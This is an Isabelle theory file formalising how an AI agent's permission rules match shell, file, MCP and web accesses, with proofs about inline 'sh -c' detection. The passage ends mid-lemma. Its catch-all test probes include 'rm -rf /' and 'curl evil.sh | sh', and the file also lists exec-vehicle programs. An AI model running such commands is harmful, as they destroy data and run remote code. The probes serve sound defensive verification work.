(* ===== verification/GB_PolicyMatch.thy ===== *)
theory GB_PolicyMatch
  imports GB_Paths GB_ShellWords GB_PromptQueue
begin

section \<open>What a permission rule matches (permission/types.rs, permission/policy.rs)\<close>

text \<open>
  The data of a permission policy and the matching of one rule against one access: command
  patterns, path patterns with their spellings, domains, and the inline shell scripts that a
  command hands to a shell. Everything here reads the outside world through the parameter
  \<open>w :: world\<close>: the shell parser, the \<open>glob\<close> and \<open>url\<close> crates, the Unicode table behind
  \<open>to_lowercase\<close> and the file system. A compiled \<open>glob::Pattern\<close> is represented by its
  source text. Of the grammar tables, the named fields of a node; of the environment, the home
  directory of the user configuration.
\<close>

subsection \<open>Types\<close>

datatype access_kind =
    Read "string option"
  | Grep "string option" "string option"
  | Edit string
  | Bash string
  | MCPTool string json
  | WebFetch string
  | WebSearch string
  | AgentMessage string

datatype decision =
    Allow | Ask | FollowupMessage string | Reject string | PolicyDeny string | Cancelled

datatype pattern_mode = GlobMode | DomainMode
datatype rule_action = RuleAllow | RuleDeny | RuleAsk
datatype tool_filter =
    ToolAny | ToolBash | ToolEdit | ToolRead | ToolGrep | ToolMcp | ToolWebFetch
  | ToolWebSearch | ToolAgentMessage

record permission_rule =
  pr_action :: rule_action
  pr_tool :: tool_filter
  pr_pattern :: "string option"
  pr_pattern_mode :: pattern_mode

datatype metadata = IsSymlink | NotSymlink | MetaNotFound | MetaError

record world =
  w_parse :: parser
  w_glob_new :: "string \<Rightarrow> bool"
  w_glob_matches :: "string \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> bool"
  w_url_host :: "string \<Rightarrow> string option"
  w_lowercase :: "string \<Rightarrow> string"
  w_canonicalize :: "path \<Rightarrow> path option"
  w_symlink_metadata :: "path \<Rightarrow> metadata"
  w_read_link :: "path \<Rightarrow> path option"
  w_child_by_field :: "node \<Rightarrow> string \<Rightarrow> node option"
  w_user_grok_home :: "path option"

subsection \<open>Dynamic tool inputs\<close>

fun as_object :: "json \<Rightarrow> (string \<times> json) list option" where
  "as_object (JObject kvs) = Some kvs"
| "as_object _ = None"

fun as_str :: "json \<Rightarrow> string option" where
  "as_str (JString s) = Some s"
| "as_str _ = None"

fun find_map :: "('a \<Rightarrow> 'b option) \<Rightarrow> 'a list \<Rightarrow> 'b option" where
  "find_map f [] = None"
| "find_map f (x # xs) = (case f x of Some y \<Rightarrow> Some y | None \<Rightarrow> find_map f xs)"

definition dynamic_string_field :: "json \<Rightarrow> string list \<Rightarrow> string option" where
  "dynamic_string_field v keys =
     (case as_object v of
        None \<Rightarrow> None
      | Some kvs \<Rightarrow> find_map (\<lambda>k. Option.bind (map_of kvs k) as_str) keys)"

definition dynamic_has_field :: "json \<Rightarrow> string list \<Rightarrow> bool" where
  "dynamic_has_field v keys =
     (case as_object v of
        None \<Rightarrow> False
      | Some kvs \<Rightarrow> list_ex (\<lambda>k. map_of kvs k \<noteq> None) keys)"

definition MUTATION_FIELDS :: "string list" where
  "MUTATION_FIELDS =
     [''oldString'', ''old_string'', ''newString'', ''new_string'', ''content'', ''edits'',
      ''replaceAll'', ''replace_all'']"

definition access_kind_from_dynamic :: "json \<Rightarrow> access_kind" where
  "access_kind_from_dynamic v =
     (if dynamic_string_field v [''name'', ''tool'', ''tool_name'', ''variant'']
           \<in> {Some ''send_feedback'', Some ''SendFeedback''}
      then Edit ''feedback_draft''
      else case dynamic_string_field v [''filePath'', ''file_path'', ''path''] of
             Some p \<Rightarrow>
               if dynamic_has_field v MUTATION_FIELDS then Edit p else Read (Some p)
           | None \<Rightarrow>
               (case dynamic_string_field v [''command''] of
                  Some c \<Rightarrow> Bash c
                | None \<Rightarrow> Read None))"

subsection \<open>Inline shell scripts\<close>

datatype shell_word = Literal string | Untrusted

datatype inline_shell_script =
  NotInline | InlineLiteral nat | InlineUntrusted | InlineUnrecognized

definition is_potential_inline :: "inline_shell_script \<Rightarrow> bool" where
  "is_potential_inline s =
     (case s of InlineLiteral _ \<Rightarrow> True | InlineUntrusted \<Rightarrow> True | _ \<Rightarrow> False)"

definition ambiguous_inline :: "bool \<Rightarrow> inline_shell_script" where
  "ambiguous_inline saw_c = (if saw_c then InlineUntrusted else InlineUnrecognized)"

definition finish_literal :: "bool \<Rightarrow> nat \<Rightarrow> inline_shell_script" where
  "finish_literal dynamic_head index =
     (if dynamic_head then InlineUntrusted else InlineLiteral index)"

definition no_script :: "bool \<Rightarrow> inline_shell_script" where
  "no_script unrecognized = (if unrecognized then InlineUnrecognized else NotInline)"

text \<open>
  The body of the option loop at word \<open>i\<close>: the answer, or the words to step over and the
  flags after them. \<open>rest\<close> is \<open>words[i + 1..]\<close>.
\<close>

datatype dash_step = Finish inline_shell_script | StepOver nat bool bool

definition dash_c_step ::
  "bool \<Rightarrow> string \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> dash_step" where
  "dash_c_step dyn word rest i saw_c unrec =
     (if word = ''--'' \<or> word = ''-'' then
        Finish
          (if \<not> saw_c then no_script unrec
           else case rest of
                  Literal _ # _ \<Rightarrow> finish_literal dyn (i + 1)
                | _ \<Rightarrow> InlineUntrusted)
      else if \<not> starts_with word ''-'' \<and> \<not> starts_with word ''+'' then
        Finish (if saw_c then finish_literal dyn i else no_script unrec)
      else if word = ''--init-file'' \<or> word = ''--rcfile'' then
        (case rest of
           Literal _ # _ \<Rightarrow> StepOver 2 saw_c unrec
         | _ \<Rightarrow> Finish (ambiguous_inline saw_c))
      else if starts_with word ''--'' then
        (if word \<in> {''--noprofile'', ''--norc'', ''--posix''} then StepOver 1 saw_c unrec
         else if saw_c then Finish InlineUntrusted
         else StepOver 1 saw_c True)
      else if word \<in> {''-o'', ''+o'', ''-O'', ''+O''} then
        (case rest of
           Literal v # _ \<Rightarrow>
             if \<not> starts_with v ''-'' then StepOver 2 saw_c unrec
             else Finish (ambiguous_inline saw_c)
         | _ \<Rightarrow> Finish (ambiguous_inline saw_c))
      else if starts_with word ''-O'' \<and> length word > 2 then StepOver 1 saw_c unrec
      else if (starts_with word ''+O'' \<or> starts_with word ''+o'') \<and> length word > 2 then
        StepOver 1 saw_c unrec
      else if starts_with word ''-o'' \<and> length word > 2 then Finish (ambiguous_inline saw_c)
      else if starts_with word ''+'' then StepOver 1 saw_c unrec
      else let flags = drop 1 word
           in if contains_char flags (CHR ''o'') \<or> contains_char flags (CHR ''O'')
              then Finish (ambiguous_inline saw_c)
              else StepOver 1 (saw_c \<or> contains_char flags (CHR ''c'')) unrec)"

fun dash_c_loop ::
  "bool \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow> inline_shell_script" where
  "dash_c_loop dyn [] i saw_c unrec = (if saw_c then InlineUntrusted else no_script unrec)"
| "dash_c_loop dyn (Untrusted # rest) i saw_c unrec = ambiguous_inline saw_c"
| "dash_c_loop dyn (Literal word # rest) i saw_c unrec =
     (case dash_c_step dyn word rest i saw_c unrec of
        Finish r \<Rightarrow> r
      | StepOver n saw_c' unrec' \<Rightarrow> dash_c_loop dyn (drop (n - 1) rest) (i + n) saw_c' unrec')"

definition shell_dash_c_script :: "shell_word list \<Rightarrow> inline_shell_script" where
  "shell_dash_c_script words =
     (case words of
        [] \<Rightarrow> NotInline
      | Untrusted # rest \<Rightarrow> dash_c_loop True rest 1 False False
      | Literal program # rest \<Rightarrow>
          if basename program \<notin> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''} then NotInline
          else dash_c_loop False rest 1 False False)"

subsection \<open>Exec vehicles\<close>

definition EXEC_VEHICLE_HEADS :: "string list" where
  "EXEC_VEHICLE_HEADS =
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'',
      ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'',
      ''nodejs'', ''luajit'', ''phpdbg'', ''php-cgi'', ''pythonw'',
      ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'',
      ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'',
      ''flock'', ''chroot'', ''nsenter'', ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "string list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "string list \<Rightarrow> string option" where
  "normalized_command_head words =
     (case first_opt words of
        None \<Rightarrow> None
      | Some w0 \<Rightarrow>
          let head = ascii_lower (basename w0)
          in Some (case strip_suffix head ''.exe'' of Some s \<Rightarrow> s | None \<Rightarrow> head))"

definition versioned_suffix :: "string \<Rightarrow> bool" where
  "versioned_suffix rest =
     (let core = (case strip_suffix rest ''t'' of Some s \<Rightarrow> s | None \<Rightarrow> rest)
      in list_all (\<lambda>c. is_ascii_digit c \<or> c = CHR ''.'') core)"

definition head_is_exec_vehicle :: "string list \<Rightarrow> bool" where
  "head_is_exec_vehicle words =
     (case normalized_command_head words of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          head \<in> set EXEC_VEHICLE_HEADS
          \<or> list_ex (\<lambda>family. case strip_prefix head family of
                               Some rest \<Rightarrow> versioned_suffix rest
                             | None \<Rightarrow> False)
              EXEC_VEHICLE_HEAD_FAMILIES)"

subsection \<open>Command patterns\<close>

datatype match_context = PathContext | Freeform

definition glob_matches :: "world \<Rightarrow> string \<Rightarrow> match_context \<Rightarrow> string option \<Rightarrow> bool" where
  "glob_matches w text ctx pat =
     (case pat of None \<Rightarrow> False | Some p \<Rightarrow> w_glob_matches w p text (ctx = PathContext))"

definition compile_glob :: "world \<Rightarrow> string \<Rightarrow> string option" where
  "compile_glob w p = (if w_glob_new w p then Some p else None)"

text \<open>The matcher \<open>CompiledPolicy::new\<close> keeps for a rule.\<close>

definition rule_matcher :: "world \<Rightarrow> permission_rule \<Rightarrow> string option" where
  "rule_matcher w rule =
     (case pr_pattern rule of
        None \<Rightarrow> None
      | Some p \<Rightarrow> if p = ''*'' then None else compile_glob w p)"

definition matches_command_prefix :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "matches_command_prefix cmd p \<longleftrightarrow>
     cmd = p \<or> (starts_with cmd p \<and> nth_opt cmd (length p) = Some (CHR '' ''))"

definition bash_command_matches_pattern ::
  "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_command_matches_pattern w command0 pattern0 precompiled =
     (let command = trim_start command0; p = trim pattern0
      in if p = [] then False
         else if p = ''*'' then True
         else if matches_command_prefix command p then True
         else case precompiled of
                Some g \<Rightarrow> glob_matches w command Freeform (Some g)
              | None \<Rightarrow> glob_matches w command Freeform (compile_glob w p))"

definition bash_allow_pattern_matches ::
  "world \<Rightarrow> string \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> bool" where
  "bash_allow_pattern_matches w cmd rule matcher =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = ''*'' then True else bash_command_matches_pattern w cmd p matcher)"

definition bash_pattern_matches_command :: "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "bash_pattern_matches_command w p command = bash_command_matches_pattern w command p None"

definition contains_whitespace :: "string \<Rightarrow> bool" where
  "contains_whitespace s = list_ex (\<lambda>t. ws_prefix_len white_space t \<noteq> 0) (suffixes s)"

definition bash_pattern_is_broad :: "string \<Rightarrow> bool" where
  "bash_pattern_is_broad pattern0 =
     (let p = trim pattern0
      in if p = [] then False else p = ''*'' \<or> \<not> contains_whitespace p)"

subsection \<open>Path patterns\<close>

definition is_tilde_path :: "path \<Rightarrow> bool" where
  "is_tilde_path p =
     (case components p of Normal first # _ \<Rightarrow> starts_with first ''~'' | _ \<Rightarrow> False)"

definition path_match_string :: "path \<Rightarrow> string" where
  "path_match_string p = map (\<lambda>c. if c = backslash then slash else c) p"

definition path_has_parent_dir :: "path \<Rightarrow> bool" where
  "path_has_parent_dir p = list_ex (\<lambda>c. c = ParentDir) (components p)"

text \<open>Joining a tool path to the session's working directory.\<close>

definition join_cwd :: "path \<Rightarrow> path option \<Rightarrow> path" where
  "join_cwd raw cwd =
     (case cwd of
        Some d \<Rightarrow> if \<not> is_absolute raw then path_push d raw else raw
      | None \<Rightarrow> raw)"

definition absolute_normalized_path :: "path \<Rightarrow> path option \<Rightarrow> path" where
  "absolute_normalized_path raw cwd =
     (if is_tilde_path raw then raw else normalize_lexically (join_cwd raw cwd))"

definition path_match_forms :: "path \<Rightarrow> path option \<Rightarrow> string list" where
  "path_match_forms p cwd =
     (let abs_path = absolute_normalized_path p cwd; form = path_match_string abs_path
      in case cwd of
           Some d \<Rightarrow>
             (case path_strip_prefix abs_path (normalize_lexically d) of
                Some rel \<Rightarrow>
                  let rel_s = path_match_string rel
                  in if rel_s = [] \<or> rel_s = ''.'' then [form, ''.'', ''./'']
                     else [form, ''./'' @ rel_s, rel_s]
              | None \<Rightarrow> [form])
         | None \<Rightarrow>
             if \<not> is_absolute abs_path \<and> \<not> path_has_parent_dir abs_path
                \<and> \<not> is_tilde_path abs_path
             then (if form \<noteq> ''.'' \<and> form \<noteq> [] then [form, ''./'' @ form] else [form])
             else [form])"

definition path_context_matches ::
  "world \<Rightarrow> path \<Rightarrow> string option \<Rightarrow> path option \<Rightarrow> bool" where
  "path_context_matches w p matcher cwd =
     list_ex (\<lambda>text. glob_matches w text PathContext matcher) (path_match_forms p cwd)"

definition native_file_path :: "access_kind \<Rightarrow> path option" where
  "native_file_path access =
     (case access of
        Edit p \<Rightarrow> Some p
      | Read p \<Rightarrow> p
      | Grep p _ \<Rightarrow> p
      | _ \<Rightarrow> None)"

text \<open>Only called on an access that has a native file path; the rest is unreachable.\<close>

definition access_with_path :: "access_kind \<Rightarrow> path \<Rightarrow> access_kind" where
  "access_with_path access p =
     (case access of
        Edit _ \<Rightarrow> Edit p
      | Read _ \<Rightarrow> Read (Some p)
      | Grep _ g \<Rightarrow> Grep (Some p) g
      | other \<Rightarrow> other)"

definition raw_absolute_tool_path :: "path \<Rightarrow> path option \<Rightarrow> string option" where
  "raw_absolute_tool_path raw cwd =
     (if is_tilde_path raw then None
      else let joined = join_cwd raw cwd
           in if is_absolute joined then Some (path_match_string joined) else None)"

subsection \<open>Following symbolic links\<close>

fun prefix_has_symlink :: "world \<Rightarrow> path \<Rightarrow> component list \<Rightarrow> bool" where
  "prefix_has_symlink w pre [] = False"
| "prefix_has_symlink w pre (c # cs) =
     (let pre' = path_push pre (component_str c)
      in if w_symlink_metadata w pre' = IsSymlink then True else prefix_has_symlink w pre' cs)"

definition path_has_symlink :: "world \<Rightarrow> path \<Rightarrow> bool" where
  "path_has_symlink w p = (if \<not> is_absolute p then False else prefix_has_symlink w [] (components p))"

definition MAX_SYMLINK_DEPTH :: nat where "MAX_SYMLINK_DEPTH = 40"

text \<open>
  \<open>walk\<close> with the calls it has left: depth \<open>d\<close> has \<open>MAX_SYMLINK_DEPTH + 1 - d\<close> left, none
  when \<open>depth > MAX_SYMLINK_DEPTH\<close>.
\<close>

fun walk_links :: "world \<Rightarrow> nat \<Rightarrow> path \<Rightarrow> path option" where
  "walk_links w 0 p = None"
| "walk_links w (Suc left) p =
     (case w_canonicalize w p of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          (case (path_parent p, path_file_name p) of
             (Some par, Some file_name) \<Rightarrow>
               (case walk_links w left par of
                  None \<Rightarrow> None
                | Some resolved_parent \<Rightarrow>
                    let candidate = path_push resolved_parent file_name
                    in case w_symlink_metadata w candidate of
                         MetaError \<Rightarrow> None
                       | MetaNotFound \<Rightarrow> Some candidate
                       | NotSymlink \<Rightarrow> Some candidate
                       | IsSymlink \<Rightarrow>
                           (case w_read_link w candidate of
                              None \<Rightarrow> None
                            | Some target \<Rightarrow>
                                walk_links w left
                                  (if is_absolute target then target
                                   else path_push resolved_parent target)))
           | _ \<Rightarrow> None))"

definition resolve_following_symlinks :: "world \<Rightarrow> path \<Rightarrow> path option" where
  "resolve_following_symlinks w p = walk_links w (MAX_SYMLINK_DEPTH + 1) p"

definition resolve_symlink_target :: "world \<Rightarrow> path \<Rightarrow> string option" where
  "resolve_symlink_target w p =
     (if \<not> is_absolute p then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r))
             (resolve_following_symlinks w p))"

datatype symlink_follow = NoLink | Target string | Unresolvable

definition follow_absolute_symlink :: "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> symlink_follow" where
  "follow_absolute_symlink w raw_absolute lexical_absolute =
     (case resolve_symlink_target w raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then Target resolved else NoLink
      | None \<Rightarrow> if path_has_symlink w raw_absolute then Unresolvable else NoLink)"

subsection \<open>Domains\<close>

fun trim_end_matches :: "char \<Rightarrow> string \<Rightarrow> string" where
  "trim_end_matches c s = rev (dropWhile (\<lambda>d. d = c) (rev s))"

definition normalize_domain :: "world \<Rightarrow> string \<Rightarrow> string" where
  "normalize_domain w raw =
     (let s = trim_end_matches (CHR ''.'') (trim_end_matches (CHR ''/'') (trim raw));
          s' = (case strip_prefix s ''www.'' of Some r \<Rightarrow> r | None \<Rightarrow> s)
      in w_lowercase w s')"

definition domain_matches :: "world \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "domain_matches w pattern url =
     (case w_url_host w url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          let domain = normalize_domain w host; np = normalize_domain w pattern
          in domain = np \<or> ends_with domain (CHR ''.'' # np))"

subsection \<open>One rule against one access\<close>

definition tool_filter_matches :: "access_kind \<Rightarrow> tool_filter \<Rightarrow> bool" where
  "tool_filter_matches access flt =
     (case flt of
        ToolAny \<Rightarrow> True
      | ToolBash \<Rightarrow> (case access of Bash _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolEdit \<Rightarrow> (case access of Edit _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolRead \<Rightarrow> (case access of Read _ \<Rightarrow> True | Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolGrep \<Rightarrow> (case access of Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolMcp \<Rightarrow> (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolWebFetch \<Rightarrow> (case access of WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolWebSearch \<Rightarrow> (case access of WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)
      | ToolAgentMessage \<Rightarrow> (case access of AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False))"

definition pattern_matches ::
  "world \<Rightarrow> access_kind \<Rightarrow> permission_rule \<Rightarrow> string option \<Rightarrow> path option \<Rightarrow> bool" where
  "pattern_matches w access rule matcher cwd =
     (case pr_pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow>
          if p = ''*'' then True
          else case access of
                 Bash cmd \<Rightarrow>
                   starts_with (trim_start cmd) p
                   \<or> glob_matches w (trim_start cmd) Freeform matcher
               | Edit f \<Rightarrow> path_context_matches w f matcher cwd
               | Read f \<Rightarrow>
                   (case f of Some f' \<Rightarrow> path_context_matches w f' matcher cwd | None \<Rightarrow> False)
               | Grep f _ \<Rightarrow>
                   (case f of Some f' \<Rightarrow> path_context_matches w f' matcher cwd | None \<Rightarrow> False)
               | MCPTool name _ \<Rightarrow> glob_matches w name Freeform matcher
               | WebFetch url \<Rightarrow>
                   (case pr_pattern_mode rule of
                      DomainMode \<Rightarrow> domain_matches w p url
                    | GlobMode \<Rightarrow> glob_matches w url Freeform matcher)
               | WebSearch query \<Rightarrow> glob_matches w query Freeform matcher \<or> starts_with query p
               | AgentMessage sid \<Rightarrow> glob_matches w sid Freeform matcher \<or> starts_with sid p)"

subsection \<open>Catch-all rules\<close>

definition bash_probe_commands :: "string list" where
  "bash_probe_commands = [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition bash_probes :: "access_kind list" where
  "bash_probes = map Bash bash_probe_commands"

definition mcp_probes :: "access_kind list" where
  "mcp_probes = map (\<lambda>n. MCPTool n JNull)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "access_kind list" where
  "webfetch_probes = map WebFetch
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'',
      ''https://api.github.com/repos'', ''ftp://files.example.org/p'']"

definition agent_message_probes :: "access_kind list" where
  "agent_message_probes =
     map AgentMessage [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition bash_glob_is_catchall :: "world \<Rightarrow> string \<Rightarrow> bool" where
  "bash_glob_is_catchall w p =
     list_all (\<lambda>access. case access of
                          Bash cmd \<Rightarrow> bash_pattern_matches_command w p cmd
                        | _ \<Rightarrow> False) bash_probes"

definition opens_all :: "world \<Rightarrow> permission_rule \<Rightarrow> access_kind list \<Rightarrow> bool" where
  "opens_all w rule probes =
     list_all (\<lambda>a. pattern_matches w a rule (rule_matcher w rule) None) probes"

definition rule_is_catchall :: "world \<Rightarrow> permission_rule \<Rightarrow> bool" where
  "rule_is_catchall w rule =
     (case pr_tool rule of
        ToolBash \<Rightarrow> opens_all w rule bash_probes
      | ToolMcp \<Rightarrow> opens_all w rule mcp_probes
      | ToolWebFetch \<Rightarrow> opens_all w rule webfetch_probes
      | ToolAgentMessage \<Rightarrow> opens_all w rule agent_message_probes
      | ToolAny \<Rightarrow>
          opens_all w rule bash_probes \<or> opens_all w rule mcp_probes
          \<or> opens_all w rule webfetch_probes \<or> opens_all w rule agent_message_probes
      | _ \<Rightarrow> False)"

section \<open>Properties of matching\<close>

subsection \<open>Inline scripts\<close>

lemma finish_literal_Inline [simp]:
  "finish_literal dyn i = InlineLiteral k \<longleftrightarrow> \<not> dyn \<and> k = i"
  "no_script unrec \<noteq> InlineLiteral k"
  "ambiguous_inline saw_c \<noteq> InlineLiteral k"
  by (auto simp: finish_literal_def no_script_def ambiguous_inline_def)

definition dash_step_ok ::
  "bool \<Rightarrow> string \<Rightarrow> shell_word list \<Rightarrow> nat \<Rightarrow> bool \<Rightarrow> dash_step \<Rightarrow> bool" where
  "dash_step_ok dyn word rest i saw_c r =
     (case r of
        Finish (InlineLiteral k) \<Rightarrow>
          \<not> dyn \<and> saw_c \<and> (k = i \<or> k = i + 1 \<and> (\<exists>s ws. rest = Literal s # ws))
      | Finish _ \<Rightarrow> True
      | StepOver n saw_c' _ \<Rightarrow>
          (n = 1 \<or> n = 2 \<and> rest \<noteq> [])
          \<and> (saw_c' \<longrightarrow> saw_c \<or> (starts_with word ''-'' \<and> CHR ''c'' \<in> set (drop 1 word))))"

lemma dash_step_ok_branch:
  "(b \<Longrightarrow> dash_step_ok dyn word rest i saw_c x) \<Longrightarrow> (\<not> b \<Longrightarrow> dash_step_ok dyn word rest i saw_c y) \<Longrightarrow>
     dash_step_ok dyn word rest i saw_c (if b then x else y)"
  "(\<And>v ws. rest = Literal v # ws \<Longrightarrow> dash_step_ok dyn word rest i saw_c (f v ws)) \<Longrightarrow>
   dash_step_ok dyn word rest i saw_c y \<Longrightarrow>
     dash_step_ok dyn word rest i saw_c (case rest of Literal v # ws \<Rightarrow> f v ws | _ \<Rightarrow> y)"
  by (auto split: list.split shell_word.split)

lemma dash_step_ok_base:
  "dash_step_ok dyn word rest i saw_c (StepOver 1 saw_c u)"
  "rest = Literal v # ws \<Longrightarrow> dash_step_ok dyn word rest i saw_c (StepOver 2 saw_c u)"
  "dash_step_ok dyn word rest i saw_c (Finish (ambiguous_inline c))"
  "dash_step_ok dyn word rest i saw_c (Finish (no_script u))"
  "dash_step_ok dyn word rest i saw_c (Finish InlineUntrusted)"
  by (auto simp: dash_step_ok_def ambiguous_inline_def no_script_def)

lemma dash_c_step_ok: "dash_step_ok dyn word rest i saw_c (dash_c_step dyn word rest i saw_c u)"
proof -
  have a: "dash_step_ok dyn word rest i saw_c
      (Finish (if \<not> saw_c then no_script u
        else case rest of Literal _ # _ \<Rightarrow> finish_literal dyn (i + 1) | _ \<Rightarrow> InlineUntrusted))"
    by (auto simp: dash_step_ok_def no_script_def finish_literal_def
        split: list.split shell_word.split)
  have b: "dash_step_ok dyn word rest i saw_c
      (Finish (if saw_c then finish_literal dyn i else no_script u))"
    by (auto simp: dash_step_ok_def no_script_def finish_literal_def)
  have c: "dash_step_ok dyn word rest i saw_c
      (StepOver 1 (saw_c \<or> contains_char (drop 1 word) (CHR ''c'')) u)"
    if "\<not> (\<not> starts_with word ''-'' \<and> \<not> starts_with word ''+'')" "\<not> starts_with word ''+''"
    using that by (auto simp: dash_step_ok_def contains_char_def)
  show ?thesis
    unfolding dash_c_step_def Let_def
    by (intro dash_step_ok_branch a b; (rule dash_step_ok_base c; assumption)?)
qed

lemma dash_c_loop_literal:
  "dash_c_loop dyn ws i saw_c u = InlineLiteral k \<Longrightarrow>
     \<not> dyn \<and> i \<le> k \<and> k - i < length ws \<and> (\<exists>s. ws ! (k - i) = Literal s)
     \<and> (saw_c \<or> (\<exists>j f. i \<le> j \<and> j < k \<and> ws ! (j - i) = Literal (CHR ''-'' # f) \<and> CHR ''c'' \<in> set f))"
proof (induction dyn ws i saw_c u rule: dash_c_loop.induct)
  case (3 dyn word rest i saw_c u)
  note ok = dash_c_step_ok [of dyn word rest i saw_c u]
  show ?case
  proof (cases "dash_c_step dyn word rest i saw_c u")
    case (Finish r)
    then show ?thesis using 3(2) ok by (auto simp: dash_step_ok_def)
  next
    case (StepOver n c' u')
    then have n: "n = 1 \<or> n = 2 \<and> rest \<noteq> []"
      and c: "c' \<longrightarrow> saw_c \<or> (starts_with word ''-'' \<and> CHR ''c'' \<in> set (drop 1 word))"
      using ok by (simp_all add: dash_step_ok_def)
    have shift: "(Literal word # rest) ! (j - i) = drop (n - 1) rest ! (j - (i + n))"
      if "i + n \<le> j" for j
      using n that by (cases rest) (auto simp: nth_Cons' Suc_diff_Suc numeral_2_eq_2)
    have IH: "\<not> dyn \<and> i + n \<le> k \<and> k - (i + n) < length (drop (n - 1) rest)
        \<and> (\<exists>s. drop (n - 1) rest ! (k - (i + n)) = Literal s)
        \<and> (c' \<or> (\<exists>j f. i + n \<le> j \<and> j < k \<and> drop (n - 1) rest ! (j - (i + n)) = Literal (CHR ''-'' # f)
              \<and> CHR ''c'' \<in> set f))"
      using 3 StepOver by simp
    have "k - i < length (Literal word # rest)" using IH n by auto
    moreover have "\<exists>s. (Literal word # rest) ! (k - i) = Literal s" using IH shift by simp
    moreover have "saw_c \<or> (\<exists>j f. i \<le> j \<and> j < k
        \<and> (Literal word # rest) ! (j - i) = Literal (CHR ''-'' # f) \<and> CHR ''c'' \<in> set f)"
    proof (cases "c' \<and> \<not> saw_c")
      case True
      then obtain f where "word = CHR ''-'' # f" "CHR ''c'' \<in> set f"
        using c by (cases word) auto
      then show ?thesis using IH n by (intro disjI2 exI [of _ i]) auto
    next
      case False
      then show ?thesis
        using IH shift by (metis add_leD1)
    qed
    ultimately show ?thesis using IH by simp
  qed
qed (auto simp: no_script_def ambiguous_inline_def split: if_splits)

text \<open>
  An inline script is never guessed: when the classifier names a script word, the
  program is a known shell, the word exists and is trusted, and a short option with the
  letter \<open>c\<close> stands before it.
\<close>

theorem inline_script_sound:
  assumes "shell_dash_c_script ws = InlineLiteral k"
  shows "k < length ws \<and> (\<exists>s. ws ! k = Literal s)
    \<and> (\<exists>p. ws ! 0 = Literal p \<and> basename p \<in> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''})
    \<and> (\<exists>j f. 0 < j \<and> j < k \<and> ws ! j = Literal (CHR ''-'' # f) \<and> CHR ''c'' \<in> set f)"
proof -
  obtain p rest where ws: "ws = Literal p # rest"
    and p: "basename p \<in> {''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''}"
    and l: "dash_c_loop False rest 1 False False = InlineLiteral k"
    using assms
    by (auto simp: shell_dash_c_script_def dest: dash_c_loop_literal
        split: list.splits shell_word.splits if_splits)
  obtain j f where "1 \<le> j" "j < k" "rest ! (j - 1) = Literal (CHR ''-'' # f)" "CHR ''c'' \<in> set f"
    and "1 \<le> k" "k - 1 < length rest" "\<exists>s. rest ! (k - 1) = Literal s"
    using dash_c_loop_literal [OF l] by auto
  then show ?thesis
    using ws p by (auto simp: nth_Cons' intro!: exI [of _ j])
qed

theorem inline_script_sound_witness:
  "shell_dash_c_script [Literal ''/bin/bash'', Literal ''-o'', Literal ''pipefail'',
     Literal ''-ec'', Literal ''rm x''] = InlineLiteral 4 \<and> (4 :: nat) < 5"
proof -
  have s: "shell_dash_c_script [Literal ''/bin/bash'', Literal ''-o'', Literal ''pipefail'',
     Literal ''-ec'', Literal ''rm x''] = InlineLiteral 4"
    by code_simp
  then show ?thesis using inline_script_sound [OF s] by simp
qed

subsection \<open>Path spellings\<close>

lemma is_absolute_components: "is_absolute p \<longleftrightarrow> (\<exists>cs. components p = RootDir # cs)"
  by (auto simp: components_def body_component_def Cons_eq_append_conv Cons_eq_map_conv
      split: if_splits)

lemma is_absolute_push: "is_absolute d \<Longrightarrow> is_absolute (path_push d p)"
  by (cases d) (auto simp: path_push_def is_absolute_def starts_with_def)

lemma join_cwd_absolute: "is_absolute d \<Longrightarrow> is_absolute (join_cwd p (Some d))"
  by (simp add: join_cwd_def is_absolute_push)

lemma locate_join:
  "is_absolute d \<Longrightarrow> locate [] (join_cwd p (Some d)) = locate (locate [] d) p"
  using locate_absolute [of p "locate [] d"] by (simp add: join_cwd_def locate_push)

lemma tilde_no_prefix:
  assumes "is_tilde_path p" and "is_absolute d"
  shows "path_strip_prefix p (normalize_lexically d) = None"
